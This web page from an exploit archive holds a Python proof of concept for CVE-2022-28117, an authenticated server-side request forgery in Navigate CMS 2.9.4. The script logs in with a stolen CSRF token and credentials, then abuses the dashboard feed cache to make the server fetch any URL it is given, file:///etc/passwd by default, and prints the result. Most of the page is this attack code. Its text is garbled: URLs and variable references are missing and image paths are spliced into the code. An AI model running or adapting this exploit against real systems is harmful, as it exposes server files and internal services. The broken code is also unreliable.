Navigate CMS 2.9.4 Server-Side Request Forgery (SSRF) (Authenticated)

Credit: cheshireca7
Risk: Medium
Local: No
Remote: Yes

#!/usr/bin/env python3 # Exploit Title: Navigate CMS 2.9.4 - Server-Side Request Forgery (SSRF) (Authenticated) # Exploit Author: cheshireca7 # Vendor Homepage: # Software Link: # Version: 2.9.4 and earlier # Tested on: Ubuntu 20.04 # CVE: CVE-2022-28117 # # -*- coding: utf-8 -*- import requests as r, signal from emoji import emojize from argparse import ArgumentParser from sys import exit from requests_toolbelt.multipart.encoder import MultipartEncoder from hashlib import md5 from time import sleep from base64 import b64decode,b64encode from colorama import Fore, Style #proxies = {'http':''} def handler(signum, frame): print("["+Fore.YELLOW+"!"+Style.RESET_ALL+"]"+emojize(b64decode("T2gsIHlvdSBjYW7igJl0IGhlbHAgdGhhdCwgd2UncmUgYWxsIG1hZCBoZXJlIC4uLiA6cGF3X3ByaW50czoK").decode('UTF-8'))) exit() def login(): print("["+Fore.BLUE+"*"+Style.RESET_ALL+f"] Trying to authenticate as {args.username} ...") sleep(1) try: # Grabbing CSRF Token s = r.Session() resp = s.get(f"{}/login.php")#, proxies=proxies) csrf_token = resp.headers['X-Csrf-Token'] # Performing login data = MultipartEncoder(fields={'login-username':f"{args.username}",'csrf_token':f"{csrf_token}",'login-password':f"{args.password}"}) headers = {'Content-Type':data.content_type} resp ="{}/login.php", data=data, headers=headers, allow_redirects=False)#, proxies=proxies) except: print("["+Fore.RED+"!"+Style.RESET_ALL+"] Something went wrong performing log in") exit(-1) if resp.status_code == 302: print("["+Fore.GREEN+"+"+Style.RESET_ALL+"] Login successful!") for cookie in resp.cookies: if "NVSID" in return (resp.headers['X-Csrf-Token'],f"{}={cookie.value}") else: print("["+Fore.RED+"!"+Style.RESET_ALL+f"] Incorrect {args.username}'s credentials") exit(-1) def exploit(values): print("["+Fore.BLUE+"*"+Style.RESET_ALL+"] Performing SSRF...") sleep(1) # Abusing cache feature to retrieve response data = {'limit':'5','language':'en','url':f'{args.payload}'} headers = {'X-Csrf-Token':values[0]} cookies = {values[1].split('=')[0]:values[1].split('=')[1]} resp ="{}/navigate.php?fid=dashboard&act=json&oper=feed", cookies=cookies, headers=headers, data=data)#, proxies=proxies) # Retrieving the file with response from static route md5File = md5(f"{args.payload}".encode('UTF-8')).hexdigest() resp = r.get(f"{}/private/1/cache/{md5File}.feed",cookies=cookies)#,proxies=proxies) if len(resp.text) > 0: print("["+Fore.GREEN+"+"+Style.RESET_ALL+"] Dumping content ...") sleep(1) print(f"\n{resp.text}") exit(0) else: print("["+Fore.RED+"!"+Style.RESET_ALL+"] No response received") exit(-1) if __name__ == '__main__': # Define parameters signal.signal(signal.SIGINT, handler) parser =ArgumentParser(description='CVE-2022-28117: Navigate CMS<= 2.9.4 - Server-Side Request Forgery (Authenticated)') parser.add_argument('-x', '--payload',default='file:///etc/passwd', help='URL to be requested (default=file:///etc/passwd)') parser.add_argument('-u','--username', default='admin', help='Username to log in the CMS (default=admin)') parser.add_argument('-p','--password', required=True, help='Password to log in the CMS') parser.add_argument('target', help='URL where the CMS is hosted. Ex:[:80]/navigate') args =parser.parse_args() exploit(login())

Vote for this issue:


Thanks for you vote!Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{x.comment }}

Copyright 2022,


Back to Top